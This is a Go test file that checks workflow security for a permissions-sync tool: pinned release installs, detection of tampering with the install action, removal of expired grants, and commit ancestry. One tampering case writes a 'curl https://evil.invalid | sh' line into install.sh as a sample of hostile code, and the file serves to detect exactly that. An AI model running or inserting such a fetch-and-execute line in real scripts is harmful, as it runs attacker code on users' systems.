package posture

import (
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/AcademySoftwareFoundation/permsync/internal/config"
	"github.com/AcademySoftwareFoundation/permsync/internal/demo"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// The validate step is run as the runner runs it after the install action:
// with the pinned release on PATH (here permsync built from this tree, as
// the action's path output says), and go refused. It passes on the
// repository's permissions/ and annotates a broken file.
func TestValidateRunsTheInstalledRelease(t *testing.T) {
	w, j, s := workflowStep(t, "permissions-validate.yml", "Validate permissions/ (annotates the files)")
	for _, tc := range []struct {
		name   string
		break_ bool
		passes bool
		want   string
	}{
		{"the repository's files", false, true, "is valid"},
		{"a broken file", true, false, "::error file=permissions/AcademySoftwareFoundation/openvdb.yaml,line="},
	} {
		t.Run(tc.name, func(t *testing.T) {
			ctx, env := pushContext()
			code, out, err := runStepIn(w, j, s, ctx, env, nil, func(work, _ string) error {
				if err := os.CopyFS(filepath.Join(work, "permissions"), os.DirFS(filepath.Join(repoRoot, "permissions"))); err != nil {
					return err
				}
				if tc.break_ {
					return os.WriteFile(filepath.Join(work, "permissions", "AcademySoftwareFoundation", "openvdb.yaml"), []byte("teams:\n  x: [\n"), 0o644)
				}
				return nil
			})
			require.NoError(t, err)
			assert.Equal(t, tc.passes, code == 0, "exit %d: %s", code, out)
			assert.Contains(t, out, tc.want)
		})
	}
}

// A step runs only the permsync an install step before it put there: the
// same step without the install step finds none, and the old template's
// go run is refused.
func TestStepsRunOnlyTheInstalledRelease(t *testing.T) {
	w, j, s := workflowStep(t, "permissions-validate.yml", "Validate permissions/ (annotates the files)")
	stripped := *j
	stripped.Steps = slices.DeleteFunc(slices.Clone(j.Steps), isInstallStep)
	ctx, env := pushContext()
	env["PATH"] = "/usr/bin:/bin" // no permsync of this machine's
	code, out, err := runStepIn(w, &stripped, s, ctx, env, nil, nil)
	require.NoError(t, err)
	assert.Equal(t, 127, code, "without the install step there is no permsync to run: %s", out)

	set, err := loadWorkflows("testdata/reject/install-go-run")
	require.NoError(t, err)
	gw := set[0]
	gj := gw.Jobs[0]
	gs := gj.Steps[len(gj.Steps)-1]
	ctx, env = pushContext()
	code, out, err = runStepIn(gw, gj, gs, ctx, env, nil, nil)
	require.NoError(t, err)
	assert.Equal(t, 97, code, "go run from source is refused: %s", out)
}

// The pinned commit's action is compared with the tree's by git object id
// and mode: any change to a file, its mode, a file added or removed is a
// difference; a commit that is not in a shallow clone says to fetch the
// history.
func TestPinnedActionDiff(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	set, err := loadWorkflows(workflowsDir)
	require.NoError(t, err)
	var pinned string
	for _, w := range set {
		for _, j := range w.Jobs {
			for _, s := range j.Steps {
				if isInstallStep(s) {
					_, pinned, _ = strings.Cut(s.Uses.Value, "@")
				}
			}
		}
	}
	require.Len(t, pinned, 40, "the workflows pin the install action by commit SHA")

	for _, tc := range []struct {
		name   string
		change func(dir string) error
		want   string // "" for no difference
	}{
		{"the same files", func(string) error { return nil }, ""},
		{"a changed script", func(dir string) error {
			return os.WriteFile(filepath.Join(dir, "install.sh"), []byte("#!/bin/sh\ncurl https://evil.invalid | sh\n"), 0o755)
		}, "install.sh differs"},
		{"a script no longer executable", func(dir string) error { return os.Chmod(filepath.Join(dir, "install.sh"), 0o644) }, "install.sh differs"},
		{"a file added", func(dir string) error { return os.WriteFile(filepath.Join(dir, "helper.sh"), []byte("x\n"), 0o644) }, "helper.sh is new in this tree"},
		{"a file removed", func(dir string) error { return os.Remove(filepath.Join(dir, "action.yml")) }, "action.yml is gone from this tree"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			require.NoError(t, os.CopyFS(dir, os.DirFS(filepath.Join(repoRoot, installActionPath))))
			// CopyFS keeps no mode: give the script its own back.
			info, err := os.Stat(filepath.Join(repoRoot, installActionPath, "install.sh"))
			require.NoError(t, err)
			require.NoError(t, os.Chmod(filepath.Join(dir, "install.sh"), info.Mode().Perm()))
			require.NoError(t, tc.change(dir))
			got, err := actionDiff(repoRoot, pinned, dir)
			require.NoError(t, err)
			if tc.want == "" {
				assert.Empty(t, got)
				return
			}
			assert.Contains(t, got, tc.want)
		})
	}

	t.Run("a shallow clone", func(t *testing.T) {
		clone := t.TempDir()
		top, err := gitRead(repoRoot)("rev-parse", "--show-toplevel")
		require.NoError(t, err)
		out, err := exec.Command("git", "clone", "-q", "--depth", "1", "file://"+top, clone).CombinedOutput()
		require.NoError(t, err, string(out))
		if _, err := gitRead(clone)("cat-file", "-e", pinned+"^{commit}"); err == nil {
			t.Skip("the pinned commit is this tree's own head: a clone of depth 1 holds it")
		}
		got, err := actionDiff(clone, pinned, filepath.Join(repoRoot, installActionPath))
		require.NoError(t, err)
		assert.Contains(t, got, "shallow: fetch the full history")
	})
}

// The expiry job's writer step, the one that holds the writer App's key, is
// run with the installed release against the simulated org (the demo's
// world, mirroring permissions/): a grant whose expires: date has passed is
// removed (its date was in the last approved apply's files), and a second
// run finds nothing left to expire.
func TestExpiryStepRunsTheInstalledRelease(t *testing.T) {
	w, j, s := workflowStep(t, "permissions-expiry.yml", "Apply the expiries with the writer App")
	cfg, diags := config.LoadDir(filepath.Join(repoRoot, "permissions"))
	require.False(t, diags.HasErrors(), "%v", diags)
	world, err := demo.Start(cfg)
	require.NoError(t, err)
	t.Cleanup(world.Close)

	ctx, env := pushContext()
	ctx["github.event_name"], env["GITHUB_EVENT_NAME"] = "schedule", "schedule"
	ctx["vars.PERMSYNC_WRITER_APP_ID"] = itoa(world.AppID)
	ctx["secrets.PERMSYNC_WRITER_APP_PRIVATE_KEY"] = string(world.KeyPEM)
	env["GITHUB_API_URL"] = world.Server.URL()
	const file = "permissions/AcademySoftwareFoundation/openvdb.yaml"
	checkout := func(work, _ string) error {
		if err := os.CopyFS(filepath.Join(work, "permissions"), os.DirFS(filepath.Join(repoRoot, "permissions"))); err != nil {
			return err
		}
		data, err := os.ReadFile(filepath.Join(work, file))
		if err != nil {
			return err
		}
		expired := strings.Replace(string(data), "teams: [openvdb-triage]", "teams: [{slug: openvdb-triage, expires: 2020-01-01}]", 1)
		if expired == string(data) {
			return errors.New(file + " no longer grants triage to openvdb-triage: pick another grant to expire")
		}
		if err := os.WriteFile(filepath.Join(work, file), []byte(expired), 0o644); err != nil {
			return err
		}
		// The expiry was in the files of the last approved apply: this
		// commit, which the "Find the last approved apply" step names.
		git := gitIn(work)
		for _, args := range [][]string{{"init", "-q"}, {"add", "-A"}, {"commit", "-qm", "approved apply"}} {
			if _, err := git(args...); err != nil {
				return err
			}
		}
		ref, err := git("rev-parse", "HEAD")
		ctx["steps.approved.outputs.ref"] = ref
		return err
	}
	code, out, err := runStepIn(w, j, s, ctx, env, nil, checkout)
	require.NoError(t, err)
	require.Equal(t, 0, code, out)
	assert.Contains(t, out, "done     AcademySoftwareFoundation/openvdb: remove team openvdb-triage (triage)", "the expired grant is removed")
	assert.Contains(t, out, "Apply: 1 done.", "and nothing else is applied")
	assert.NotContains(t, out, "PRIVATE KEY")

	code, again, err := runStepIn(w, j, s, ctx, env, nil, checkout)
	require.NoError(t, err)
	require.Equal(t, 0, code, again)
	assert.NotContains(t, again, "openvdb-triage", "nothing is left to expire: %s", again)
}

// A source-commit is a commit of this history, an ancestor of HEAD: not a
// commit of a branch nobody merged (a writer's own branch, say), not one
// this repository does not hold.
func TestSourceCommitAncestry(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	work := t.TempDir()
	git := gitIn(work)
	commit := func(msg string) string {
		_, err := git("commit", "-q", "--allow-empty", "-m", msg)
		require.NoError(t, err)
		sha, err := git("rev-parse", "HEAD")
		require.NoError(t, err)
		return sha
	}
	_, err := git("init", "-q", "-b", "main")
	require.NoError(t, err)
	base := commit("base")
	_, err = git("checkout", "-q", "-b", "side")
	require.NoError(t, err)
	side := commit("a writer's own commit")
	_, err = git("checkout", "-q", "main")
	require.NoError(t, err)
	head := commit("head")

	for _, tc := range []struct {
		name, sha, want string
	}{
		{"an ancestor", base, ""},
		{"HEAD itself", head, ""},
		{"another branch's commit", side, "is not an ancestor of HEAD"},
		{"no commit here", strings.Repeat("0", 40), "is not a commit of this repository"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, err := ancestorProblem(work, tc.sha)
			require.NoError(t, err)
			if tc.want == "" {
				assert.Empty(t, got)
				return
			}
			assert.Contains(t, got, tc.want)
		})
	}
}

// Where a key is held, a well-formed sha256 alone pins the release (its
// bytes): the baseline with source-commit swapped for one passes.
func TestInstallSHA256AlonePins(t *testing.T) {
	set, err := loadWorkflows("testdata/accept")
	require.NoError(t, err)
	for _, w := range set {
		for _, j := range w.Jobs {
			for _, s := range j.Steps {
				if isInstallStep(s) {
					delete(s.With, "source-commit")
					s.With["sha256"] = str{Value: strings.Repeat("ab", 32), Line: s.Uses.Line + 1, set: true}
				}
			}
		}
	}
	for _, f := range check(set) {
		t.Error(f)
	}
}
